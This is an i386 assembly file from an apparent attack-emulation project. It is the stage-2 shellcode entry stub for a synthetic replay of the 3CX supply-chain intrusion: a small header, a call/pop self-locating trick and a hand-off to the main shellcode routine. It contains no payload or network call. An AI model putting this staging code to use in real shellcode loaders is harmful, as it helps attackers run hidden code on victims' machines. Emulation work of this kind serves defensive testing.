/*
 * chainreplay synthetic 3CX scenario, stage-2 shellcode bootstrap (i386).
 * Written from scratch. Must be the first object on the link line: offset 0 of the
 * extracted .text is the shellcode entry. Header layout: see entry_x64.S.
 */
    .text
    .globl  _sc_entry
_sc_entry:
    .byte   0xEB, 0x0E
    .ascii  "S2"
    .long   0, 0, 0
    call    1f                   /* call/pop: learn our own address */
1:  popl    %eax
    subl    $(1b - _sc_entry), %eax
    pushl   %ebp
    movl    %esp, %ebp
    andl    $-16, %esp
    subl    $12, %esp
    pushl   %eax                 /* cdecl sc_main(base) */
    call    _sc_main
    movl    %ebp, %esp
    popl    %ebp
    ret
